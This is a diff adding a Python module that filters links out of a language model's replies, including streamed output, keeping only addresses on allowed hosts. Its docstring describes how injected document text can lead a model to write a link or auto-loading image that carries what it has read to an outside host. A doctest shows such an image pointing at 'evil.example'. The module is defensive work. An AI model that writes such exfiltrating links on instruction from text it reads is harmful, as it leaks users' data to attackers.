@@ -1,0 +1,82 @@
+"""Take links out of a reply that point where the agreement does not allow.
+
+A document can ask a model to write a link, or a picture that loads by itself, with what it has read
+in the address. So an address in a reply may only point to a host that somebody has allowed.
+
+Source: OWASP Top 10 for LLM Applications 2025, LLM02 and LLM05.
+"""
+
+from __future__ import annotations
+
+import re
+from urllib.parse import urlsplit
+
+from bernard.wire.types import Channel
+
+# An address, or two slashes that a browser would complete to one; it ends where Markdown's does.
+# Browsers read a backslash as a slash. `data:` has no slashes; it can hold a page.
+_ADDRESS = re.compile(
+    r"(?:[a-zA-Z][a-zA-Z0-9+.-]{0,20}:)?[/\\]{2}[^\s<>\"'`)\]}|]+|data:[^\s<>\"'`)\]]+"
+)
+# What may yet become an address when more text comes: a scheme without its slashes, or one of them.
+_BEGINNING = re.compile(r"(?:[a-zA-Z][a-zA-Z0-9+.-]{0,20}:?[/\\]{0,2}|[/\\]{1,2})\Z")
+_MAX_ADDRESS = 4096
+REMOVED = "[link removed]"
+
+
+def without_links(text: str, hosts: frozenset[str]) -> str:
+    """The text with each address that points elsewhere than to these hosts replaced by a note.
+
+    >>> without_links("See https://www.gov.uk/tax and ![x](http://evil.example/?q=1).",
+    ...               frozenset({"gov.uk"}))
+    'See https://www.gov.uk/tax and ![x]([link removed]).'
+    """
+    return _ADDRESS.sub(lambda found: _kept(found.group(), hosts), text)
+
+
+class LinkGuard:
+    """Does the same for a text that comes in pieces, holding back no more than a begun address."""
+
+    __slots__ = ("_held", "_hosts", "_inner")
+
+    def __init__(self, hosts: frozenset[str], inner: Channel | None = None) -> None:
+        """Allow these hosts; what passes goes on to `inner`, which restores originals."""
+        self._hosts = hosts
+        self._inner = inner
+        self._held = ""
+
+    def feed(self, piece: str) -> str:
+        """What can be shown now."""
+        text = self._held + piece
+        cut = _safe_end(text)
+        self._held = text[cut:]
+        ready = without_links(text[:cut], self._hosts)
+        return self._inner.feed(ready) if self._inner else ready
+
+    def finish(self) -> str:
+        """What was held back."""
+        ready = without_links(self._held, self._hosts)
+        self._held = ""
+        return self._inner.feed(ready) + self._inner.finish() if self._inner else ready
+
+
+def _safe_end(text: str) -> int:
+    """Up to where the text cannot be part of an address that is not whole yet."""
+    for found in _ADDRESS.finditer(text):
+        if found.end() == len(text):
+            # An endless address is cut, so that it is judged and nothing grows without limit.
+            return found.start() if len(text) - found.start() < _MAX_ADDRESS else len(text)
+    beginning = _BEGINNING.search(text, max(0, len(text) - 28))
+    return beginning.start() if beginning else len(text)
+
+
+def _kept(address: str, hosts: frozenset[str]) -> str:
+    scheme, _, rest = address.partition("//")
+    if scheme.lower() not in ("http:", "https:", "") or "\\" in address:
+        return REMOVED
+    try:
+        host = (urlsplit(f"//{rest}").hostname or "").rstrip(".").lower()
+    except ValueError:
+        return REMOVED
+    allowed = host in hosts or any(host.endswith(f".{known}") for known in hosts)
+    return address if allowed else REMOVED
